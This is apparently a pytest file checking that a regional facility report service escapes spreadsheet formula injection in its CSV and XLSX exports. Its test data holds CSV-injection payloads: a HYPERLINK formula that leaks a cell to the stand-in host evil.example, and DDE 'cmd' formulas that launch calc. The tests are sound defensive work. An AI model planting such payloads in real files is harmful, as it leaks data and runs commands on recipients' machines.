"""Item 4 of issue 15: names imported by county staff cannot become formulas in inspectors' spreadsheets.

The attack: a facility named ``=HYPERLINK("http://…"&B2,"详情")`` uploaded by county staff
came out verbatim in a province inspector's CSV and as a live formula cell in the XLSX.
Now (OWASP CSV injection): in CSV such text starts with a single quote; in XLSX it is a
string cell with the exact text — openpyxl finds no formula cell in the workbook.
"""

from __future__ import annotations

import csv
import io
import zipfile

import httpx
from openpyxl import Workbook, load_workbook

from reports.cells import FORMULA_STARTS, csv_cell, xlsx_text_only

from .conftest import ApiProcess

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
NAMES = {
    "jt-lib": HOSTILE,
    "jt-wh": "+cmd|' /C calc'!A0",
    "jt-wufeng": "-2+3+cmd|' /C calc'!A0",
    "jt-zhaozhen": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_cells() -> None:
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("金堂县图书馆") == "金堂县图书馆"
    assert csv_cell(-3.5) == "-3.5" and csv_cell(None) == ""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([HOSTILE, "\t=1", 5, "ok"])
    assert ws["A1"].data_type == "f"  # what openpyxl does by itself
    xlsx_text_only(wb)
    assert [c.data_type for c in ws[1]] == ["s", "s", "n", "s"]


def test_hostile_names_in_report_exports(api_process: ApiProcess) -> None:
    facilities = "\n".join(
        ["id,name,kind,county"] + [f'{fid},"{name.replace(chr(34), chr(34) * 2)}",public_library,510121'
                                   for fid, name in NAMES.items()]
    )  # fmt: skip
    staff = api_process.auth("jt-staff")
    up = httpx.post(
        f"{api_process.url}/inventory/import",
        files=[("files", ("facilities.csv", facilities.encode(), "text/csv"))],
        headers=staff,
        timeout=30,
    )
    assert up.status_code == 200, up.text
    inspector = api_process.auth("sc-inspector")
    params = {"start": "2026-10-01T00:00:00+08:00", "end": "2026-10-08T00:00:00+08:00"}

    r = httpx.get(f"{api_process.url}/regions/510121/report", params={**params, "format": "xlsx"},
                  headers=inspector, timeout=60)  # fmt: skip
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HOSTILE in texts  # the name is there, exactly, as text

    r = httpx.get(f"{api_process.url}/regions/510121/report", params={**params, "format": "csv"},
                  headers=inspector, timeout=60)  # fmt: skip
    assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:  # one CSV per table
        rows = [row for n in z.namelist() for row in csv.reader(io.StringIO(z.read(n).decode("utf-8-sig")))]
    values = [v for row in rows for v in row]
    assert "'" + HOSTILE in values
    assert not [v for v in values if v.startswith(FORMULA_STARTS) and not _number(v)]


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True
